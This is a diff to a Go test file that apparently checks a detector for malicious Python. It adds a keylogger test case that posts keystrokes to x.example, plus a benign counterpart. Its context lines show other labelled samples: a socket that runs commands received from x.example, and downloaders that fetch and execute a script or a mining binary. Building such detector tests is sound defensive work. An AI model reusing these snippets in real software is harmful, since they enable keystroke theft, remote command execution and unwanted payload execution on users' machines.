@@ -49,6 +49,9 @@ func TestPython(t *testing.T) {
 		{"import asyncio\nclass K:\n    async def _execute(self, code):\n        return await asyncio.create_subprocess_shell(code)\n\n    async def run(self):\n        r, w = await asyncio.open_connection(self.host, self.port)\n        while line := await r.readline():\n            w.write(await self._execute(line.decode()))\n", "fetch-exec"},
 		{"import socket, subprocess\ns = socket.socket()\ns.connect(('x.example', 5555))\ncmd = s.recv(4096).decode()\nsubprocess.run(cmd, shell=True)\n", "fetch-exec"},
 		{"import asyncio\nclass K:\n    async def _log(self, line):\n        print(line)\n\n    async def run(self):\n        r, w = await asyncio.open_connection(self.host, self.port)\n        while line := await r.readline():\n            await self._log(line.decode())\n", ""},
+		// A keylogger in a file that sends: the keystrokes leave.
+		{"from pynput import keyboard\nimport requests\nbuf = []\ndef on_press(k):\n    buf.append(str(k))\nrequests.post('https://x.example/k', data=''.join(buf))\nwith keyboard.Listener(on_press=on_press) as l:\n    l.join()\n", "secret-send"},
+		{"from pynput import keyboard\ndef on_press(k):\n    print(k)\nwith keyboard.Listener(on_press=on_press) as l:\n    l.join()\n", ""},
 		// A download saved to a file, and that file run.
 		{"import os, subprocess, urllib.request\np = os.path.expanduser('~/.cache/.w')\nurllib.request.urlretrieve('https://x.example/w', p)\nos.chmod(p, 0o755)\nsubprocess.Popen([p, '-o', 'pool.x.example:3333'])\n", "fetch-exec"},
 		{"import subprocess, urllib.request\nurllib.request.urlretrieve('https://x.example/i.sh', '/tmp/i.sh')\nsubprocess.run(['bash', '/tmp/i.sh'])\n", "fetch-exec"},
